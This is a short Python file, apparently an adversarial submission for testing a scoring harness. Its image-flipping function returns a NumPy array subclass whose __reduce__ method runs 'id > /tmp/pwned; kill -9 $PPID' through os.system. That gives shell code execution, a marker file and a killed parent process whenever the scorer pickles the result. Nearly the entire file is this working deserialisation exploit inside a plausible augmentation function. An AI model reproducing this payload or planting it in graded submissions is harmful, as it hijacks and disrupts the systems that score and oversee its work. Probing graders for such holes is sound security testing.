# Tries code execution in the scorer by pickling: returned ndarray subclass with __reduce__ that would write a marker / kill.
import os
import numpy as np
class Evil(np.ndarray):
    def __reduce__(self): return (os.system, ("id > /tmp/pwned; kill -9 $PPID",))
    def __reduce_ex__(self, p): return self.__reduce__()
rng = np.random.default_rng()
def flip(images, indices, epoch):
    chosen = rng.random(len(images)) < 0.5
    return np.where(chosen[:, None, None, None], images[..., ::-1], images).view(Evil)
